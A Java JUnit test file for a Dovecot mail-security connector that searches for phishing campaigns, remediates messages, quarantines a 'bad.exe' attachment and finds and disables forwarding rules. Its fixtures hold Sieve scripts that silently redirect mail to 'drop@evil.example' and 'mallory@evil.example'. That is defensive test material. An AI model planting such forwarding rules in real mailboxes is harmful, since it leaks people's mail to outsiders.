package dev.quaestor.connector.imap;

import dev.quaestor.connector.capability.AttachmentQuarantineContract;
import dev.quaestor.connector.capability.BackEnd;
import dev.quaestor.connector.capability.MailForwardingContract;
import dev.quaestor.connector.capability.MailRemediationContract;
import dev.quaestor.connector.capability.MailSearchContract;
import dev.quaestor.connector.capability.MailboxRulesContract;
import dev.quaestor.entity.EntityKey;
import dev.quaestor.entity.MailCluster;
import dev.quaestor.entity.MailCluster.Field;
import dev.quaestor.entity.MailMessage;
import dev.quaestor.entity.Mailbox;
import dev.quaestor.entity.MailboxRule;
import dev.quaestor.text.Sha256;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;

/** The contracts of all that mailboxes offer, kept on a real Dovecot. */
class DovecotContractAsRootTest {
  static final String MEGAN = "megan@contoso.example";
  static final String ADELE = "adele@contoso.example";
  static final String LEE = "lee@contoso.example";
  static final String KIM = "kim@contoso.example";
  static final String SUBJECT = "Bestätigen: confirm your \"account\"  within 24 hours";

  private static RealDovecot dovecot;

  @BeforeAll
  static void open() throws Exception {
    dovecot = RealDovecot.up(MEGAN, ADELE, LEE, KIM);
  }

  @AfterAll
  static void close() throws Exception {
    if (dovecot != null) {
      dovecot.close();
    }
  }

  static String id(String mailbox) {
    return "<" + mailbox.substring(0, mailbox.indexOf('@')) + ".1@woodgrove-support.example>";
  }

  static String mail(String id, String from, String subject, String to) {
    return """
    Return-Path: <%2$s>
    Received: from mx (mx.woodgrove-support.example [203.0.113.7]) by mail.contoso.example; Mon, 30 Nov 2026 08:00:00 +0000
    From: "Support" <%2$s>
    To: <%4$s>
    Subject: %3$s
    Message-ID: %1$s
    Date: Mon, 30 Nov 2026 08:00:00 +0000
    MIME-Version: 1.0
    Content-Type: text/plain; charset=utf-8

    Click.
    """
        .formatted(id, from, subject, to);
  }

  private static final String ENCODED =
      "=?utf-8?Q?Best=C3=A4tigen=3A_confirm?=\n your \"account\"  within 24 hours";

  @BeforeEach
  void fill() {
    dovecot.reset();
    for (var mailbox : List.of(MEGAN, ADELE)) {
      dovecot.deliver(
          mailbox, "", mail(id(mailbox), "a@Woodgrove-Support.example", ENCODED, mailbox));
    }
    dovecot.deliver(
        LEE, "Été & \"Work\"", mail(id(LEE), "b@woodgrove-support.example", ENCODED, LEE));
    for (var mailbox : List.of(MEGAN, ADELE, LEE, KIM)) {
      dovecot.deliver(
          mailbox, "", mail("<1." + mailbox + ">", "a@fabrikam.example", ENCODED, mailbox));
      dovecot.deliver(
          mailbox,
          "",
          mail("<2." + mailbox + ">", "a@woodgrove-support.example", "Re: " + ENCODED, mailbox));
      dovecot.deliver(
          mailbox, "", mail("<3." + mailbox + ">", "kim@contoso.example", "Lunch", mailbox));
    }
    // What they sent themselves is no mail that came.
    dovecot.deliver(
        KIM, "Sent", mail("<sent@contoso.example>", "kim@woodgrove-support.example", ENCODED, KIM));
  }

  private static MailMessage named(String mailbox) {
    return MailMessage.named(null, id(mailbox), mailbox);
  }

  private static Set<EntityKey> campaign() {
    return Stream.of(MEGAN, ADELE, LEE)
        .flatMap(box -> dovecot.holding(box, id(box)).stream().map(lying -> named(box).key()))
        .collect(Collectors.toSet());
  }

  private static List<MailCluster.Criterion> criteria() {
    return List.of(Field.SUBJECT.is(SUBJECT), Field.SENDER_DOMAIN.is("WOODGROVE-SUPPORT.example"));
  }

  @Nested
  class Searching extends MailSearchContract {
    @Override
    protected BackEnd backEnd() {
      return dovecot;
    }

    @Override
    protected List<MailCluster.Criterion> criteria() {
      return DovecotContractAsRootTest.criteria();
    }

    @Override
    protected Set<EntityKey> alike() {
      return campaign();
    }

    @Override
    protected MailMessage there() {
      return named(MEGAN);
    }

    @Override
    protected String folder() {
      return "INBOX";
    }

    @Override
    protected MailMessage notThere() {
      return MailMessage.named(null, id(MEGAN), KIM);
    }
  }

  @Nested
  class Moving extends MailRemediationContract {
    @Override
    protected BackEnd backEnd() {
      return dovecot;
    }

    @Override
    protected MailMessage one() {
      return named(MEGAN);
    }

    @Override
    protected MailMessage sibling() {
      return named(ADELE);
    }

    @Override
    protected MailMessage neverThere() {
      return MailMessage.named(null, id(MEGAN), KIM);
    }

    @Override
    protected MailMessage outOfReach() {
      return MailMessage.named(null, id(MEGAN), "ghost@contoso.example");
    }

    @Override
    protected MailCluster cluster() {
      return new MailCluster(
          one().key(),
          criteria(),
          List.of(new MailCluster.Member(MEGAN, null, id(MEGAN), null)),
          3);
    }

    @Override
    protected Set<EntityKey> alike() {
      return campaign();
    }

    @Override
    protected Optional<String> place(MailMessage message) {
      var mailbox = String.valueOf(message.recipient());
      return dovecot.place(mailbox, String.valueOf(message.internetMessageId()));
    }
  }

  @Nested
  class TakingOut extends AttachmentQuarantineContract {
    private static final String ID = "<with-attachment@evil.example>";
    private static final byte[] CONTENT = "not a program".getBytes(StandardCharsets.UTF_8);
    private static final Pattern NAMES = Pattern.compile("filename=\"([^\"]*)\"");

    @BeforeEach
    void deliver() {
      dovecot.deliver(
          ADELE,
          "",
          """
          From: "Mallory" <mallory@evil.example>
          To: <adele@contoso.example>
          Subject: Invoice
          Message-ID: %s
          MIME-Version: 1.0
          Content-Type: multipart/mixed; boundary="b"

          --b
          Content-Type: application/octet-stream
          Content-Disposition: attachment; filename="bad.exe"
          Content-Transfer-Encoding: base64

          %s
          --b
          Content-Type: text/plain
          Content-Disposition: attachment; filename="harmless.txt"

          Nothing here.
          --b--
          """
              .formatted(ID, Base64.getEncoder().encodeToString(CONTENT)));
    }

    @Override
    protected BackEnd backEnd() {
      return dovecot;
    }

    @Override
    protected MailMessage carrying() {
      return MailMessage.named(null, ID, ADELE);
    }

    @Override
    protected String sha256() {
      return Sha256.of(CONTENT);
    }

    @Override
    protected List<String> attached() {
      return dovecot.holding(ADELE, ID).stream()
          .filter(lying -> lying.folder().equals("INBOX"))
          .flatMap(lying -> NAMES.matcher(RealDovecot.read(lying.file())).results())
          .map(name -> name.group(1))
          .toList();
    }
  }

  private static final String OUTWARD =
      """
      require ["fileinto", "copy"];
      if header :contains "subject" "redirect \\"x@evil.example\\";" {
        redirect :copy "drop@evil.example"; # redirect "a@b";
      }
      """;

  private static final String BOTH =
      """
      require ["fileinto", "include", "vacation"];
      vacation :days 3 text:
      redirect "mallory@evil.example";
      .
      ;
      redirect "kim@contoso.example";
      redirect
        "drop@evil.example" ;
      fileinto "Work";
      """;

  private static final String INWARD = "redirect \"kim@contoso.example\";\n";

  private static MailboxRule script(String mailbox) {
    return new MailboxRule(mailbox, "main", "main", true, List.of());
  }

  @Nested
  class Ruling extends MailboxRulesContract {
    @BeforeEach
    void write() {
      dovecot.activate(MEGAN, "main", BOTH);
    }

    @Override
    protected BackEnd backEnd() {
      return dovecot;
    }

    @Override
    protected Mailbox forwarding() {
      return new Mailbox(MEGAN, null);
    }

    @Override
    protected Set<String> recipients() {
      return Set.of("drop@evil.example", KIM);
    }

    @Override
    protected Mailbox plain() {
      return new Mailbox(ADELE, null);
    }

    @Override
    protected Mailbox outOfReach() {
      return new Mailbox("ghost@contoso.example", null);
    }
  }

  @Nested
  class TurningOff extends MailForwardingContract {
    @BeforeEach
    void write() {
      dovecot.activate(MEGAN, "main", OUTWARD);
      dovecot.activate(ADELE, "main", BOTH);
      dovecot.activate(LEE, "main", INWARD);
    }

    @Override
    protected BackEnd backEnd() {
      return dovecot;
    }

    @Override
    protected MailboxRule outward() {
      return script(MEGAN);
    }

    @Override
    protected MailboxRule both() {
      return script(ADELE);
    }

    @Override
    protected MailboxRule inward() {
      return script(LEE);
    }

    @Override
    protected MailboxRule gone() {
      return script(KIM);
    }

    @Override
    protected Object asItIs(MailboxRule rule) {
      return dovecot.active(rule.mailbox());
    }

    @Override
    protected boolean sendsOutside(MailboxRule rule) {
      return dovecot.active(rule.mailbox()).orElse("").contains("\"drop@evil.example\"");
    }

    @Override
    protected void somebodyChanges(MailboxRule rule) {
      dovecot.activate(rule.mailbox(), "main", "keep;\n");
    }
  }
}
